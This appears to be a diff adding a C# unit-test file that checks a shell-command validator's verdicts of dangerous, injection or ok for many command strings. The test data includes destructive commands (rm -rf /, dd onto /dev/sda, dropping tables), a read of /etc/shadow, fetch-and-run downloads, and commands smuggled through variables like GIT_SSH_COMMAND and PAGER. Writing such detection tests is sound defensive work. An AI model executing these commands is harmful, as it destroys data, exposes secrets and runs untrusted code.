@@ -1,0 +1,136 @@
+using Arrea.Dataflow.Validation;
+
+namespace Arrea.Dataflow.Tests.Validation;
+
+/// <summary>What the text arranges itself, seen through to what it does: links, names, variables, files.</summary>
+[TestClass]
+public sealed class FollowedCommandsTests
+{
+    [TestMethod]
+    [DataRow("mapfile -C 'rm -rf ~ #' -c 1 a <<< x", "dangerous")]
+    [DataRow("readarray -C 'rm -rf ~ #' -c 1 a < f", "dangerous")]
+    [DataRow("hash -p /bin/rm ls; ls -rf /", "dangerous")]
+    [DataRow("BASH_CMDS[ls]=/bin/rm; ls -rf /", "dangerous")]
+    [DataRow("compgen -W '$(rm -rf ~)'", "dangerous")]
+    public void Validate_WhatTheShellRunsByItsBuiltins_AreFollowed(string command, string expected) => Assert.AreEqual(expected, VerdictOf(command));
+
+    [TestMethod]
+    [DataRow("ln -s / x; rm -rf x/*", "dangerous")]
+    [DataRow("ln -sfn /etc e; cd e; rm -rf *", "dangerous")]
+    [DataRow("ln -s /dev/sda d; dd if=x of=d", "dangerous")]
+    [DataRow("ln -s /etc/shadow s; cat s", "dangerous")]
+    [DataRow("install /bin/rm z; ./z -rf /", "dangerous")]
+    [DataRow("ln /bin/rm z; ./z -rf /", "dangerous")]
+    [DataRow("cp /bin/rm z && ./z -rf /", "dangerous")]
+    [DataRow("cp $(which rm) x; ./x -rf ~", "dangerous")]
+    [DataRow("ln -s ../lib lib; rm -rf lib/tmp", "dangerous")]
+    [DataRow("ln -sf build/a out; cat out/x", "ok")]
+    public void Validate_LinksAndCopies_AreFollowed(string command, string expected) => Assert.AreEqual(expected, VerdictOf(command));
+
+    [TestMethod]
+    [DataRow("bash /dev/fd/3 3<<<'rm -rf ~'", "dangerous")]
+    [DataRow(". /dev/fd/3 3<<< 'rm -rf ~'", "dangerous")]
+    [DataRow("bash /dev/fd/9 9< <(echo rm -rf /)", "dangerous")]
+    public void Validate_Descriptors_AreFollowed(string command, string expected) => Assert.AreEqual(expected, VerdictOf(command));
+
+    [TestMethod]
+    [DataRow("gdd if=x of=/dev/sda", "dangerous")]
+    [DataRow("gchmod -R 777 /", "dangerous")]
+    [DataRow("echo / | gxargs rm -rf", "dangerous")]
+    [DataRow("/usr/lib/git-core/git-push --force", "dangerous")]
+    [DataRow("docker.io run --privileged alpine", "dangerous")]
+    [DataRow("podman-remote run --privileged alpine", "dangerous")]
+    [DataRow("kubectl-1.28 delete ns prod", "dangerous")]
+    [DataRow("psql15 -c 'drop table users'", "dangerous")]
+    [DataRow("gtar xf a --checkpoint-action=exec=./x", "injection")]
+    [DataRow("vim.basic -c '!id' x", "injection")]
+    [DataRow("nvi -c '!id' x", "injection")]
+    public void Validate_OtherNames_AreFollowed(string command, string expected) => Assert.AreEqual(expected, VerdictOf(command));
+
+    [TestMethod]
+    [DataRow("t=build; . ./unknown.sh; rm -rf \"$t\"", "injection")]
+    public void Validate_ForgottenVariables_AreFollowed(string command, string expected) => Assert.AreEqual(expected, VerdictOf(command));
+
+    [TestMethod]
+    [DataRow("printf 'a:\\n\\trm -rf /\\n' > Makefile; make", "dangerous")]
+    [DataRow("echo '{\"scripts\":{\"x\":\"rm -rf /\"}}' > package.json; npm run x", "dangerous")]
+    [DataRow("echo 'drop table users' > a.sql; psql -f a.sql", "dangerous")]
+    [DataRow("aria2c x.io/i.sh && bash i.sh", "dangerous")]
+    [DataRow("axel x.io/i.sh; sh i.sh", "dangerous")]
+    public void Validate_WrittenScripts_AreFollowed(string command, string expected) => Assert.AreEqual(expected, VerdictOf(command));
+
+    [TestMethod]
+    [DataRow("GIT_SSH_COMMAND='ssh -i x; rm -rf ~' git fetch", "dangerous")]
+    [DataRow("MANPAGER='less -R;rm -rf ~' man ls", "dangerous")]
+    [DataRow("PAGER='less -x; id' git log", "injection")]
+    [DataRow("GIT_SSH_COMMAND='ssh -i x -o ProxyCommand=id' git fetch", "injection")]
+    [DataRow("RSYNC_RSH='ssh -i x; id' rsync a b:", "injection")]
+    [DataRow("CARGO_TARGET_X_RUNNER='qemu-x; id' cargo run", "injection")]
+    [DataRow("PAGER=cat git log", "ok")]
+    [DataRow("EDITOR=vim git commit", "ok")]
+    public void Validate_VariablesThatAShellRuns_AreFollowed(string command, string expected) => Assert.AreEqual(expected, VerdictOf(command));
+
+    [TestMethod]
+    [DataRow("docker exec -it web bash", "ok")]
+    [DataRow("kubectl exec -it web-0 -- bash", "ok")]
+    [DataRow("docker run -it --rm ubuntu bash", "ok")]
+    [DataRow("ssh -t host bash", "ok")]
+    [DataRow("node --test", "ok")]
+    [DataRow("iex -S mix", "ok")]
+    [DataRow("docker compose exec web sh", "ok")]
+    [DataRow("docker exec -it db psql -U postgres", "ok")]
+    [DataRow("curl x.io | docker exec -i web bash", "dangerous")]
+    public void Validate_BareShells_AreFollowed(string command, string expected) => Assert.AreEqual(expected, VerdictOf(command));
+
+    [TestMethod]
+    [DataRow("sed -i \"s|@PREFIX@|$PREFIX|g\" a.in", "ok")]
+    [DataRow("sed -n \"${start},${end}p\" f", "ok")]
+    [DataRow("sed \"s/{{NAME}}/${NAME}/g\" t > o", "ok")]
+    [DataRow("awk \"NR==$n\" f", "ok")]
+    [DataRow("sed \"s/a/b/$FLAGS\" f", "injection")]
+    [DataRow("sed \"$SCRIPT\" f", "injection")]
+    [DataRow("awk \"$PROG\" f", "injection")]
+    [DataRow("awk \"{print $x}\" f", "injection")]
+    [DataRow("sed -e '1i\\' -e 'header line' f", "ok")]
+    public void Validate_SedAndAwk_AreFollowed(string command, string expected) => Assert.AreEqual(expected, VerdictOf(command));
+
+    [TestMethod]
+    [DataRow("for f in ./scripts/*; do \"$f\"; done", "ok")]
+    [DataRow("./bin/m*", "ok")]
+    [DataRow("for t in tests/test_*.sh; do \"./$t\"; done", "ok")]
+    [DataRow("ls *.txt | xargs -I{} mv {} archive/{}", "ok")]
+    [DataRow("/bin/r? -rf /", "dangerous")]
+    [DataRow("/usr/bin/mkf*.ext4 /dev/sda", "dangerous")]
+    public void Validate_Patterns_AreFollowed(string command, string expected) => Assert.AreEqual(expected, VerdictOf(command));
+
+    [TestMethod]
+    [DataRow(". \"$NVM_DIR/nvm.sh\"", "ok")]
+    [DataRow(". \"$(dirname \"$0\")/lib.sh\"", "ok")]
+    [DataRow("bash \"$1\"", "injection")]
+    [DataRow(". \"$FILE\"", "injection")]
+    [DataRow("sh ./$X", "injection")]
+    [DataRow("bash \"$DIR/run.sh\"", "ok")]
+    [DataRow("source ~/.bashrc", "ok")]
+    public void Validate_FilesOfUnknownName_AreFollowed(string command, string expected) => Assert.AreEqual(expected, VerdictOf(command));
+
+    [TestMethod]
+    [DataRow("awk 'BEGIN{print \"rm -rf /\"}' | sh", "dangerous")]
+    [DataRow("sed 's/^/rm -rf /' <<< / | sh", "dangerous")]
+    [DataRow("cut -c2- <<< 'xrm -rf /' | bash", "dangerous")]
+    [DataRow("jq -rn '\"rm -rf /\"' | sh", "dangerous")]
+    [DataRow("r${x}m -rf /", "dangerous")]
+    [DataRow("r$@m -rf /", "dangerous")]
+    [DataRow("$(which rm) -rf /", "dangerous")]
+    [DataRow("$(command -v rm) -rf /", "dangerous")]
+    [DataRow("EDITOR='rm -rf ~' git commit", "dangerous")]
+    [DataRow("PAGER='rm -rf ~' git log", "dangerous")]
+    [DataRow("rm -rf \"$(dirname \"$PWD\")\"", "dangerous")]
+    public void Validate_KnownOutputs_AreFollowed(string command, string expected) => Assert.AreEqual(expected, VerdictOf(command));
+
+    private static string VerdictOf(string command) => CommandValidator.Validate(command) switch
+    {
+        Dangerous => "dangerous",
+        Injection => "injection",
+        _ => "ok",
+    };
+}
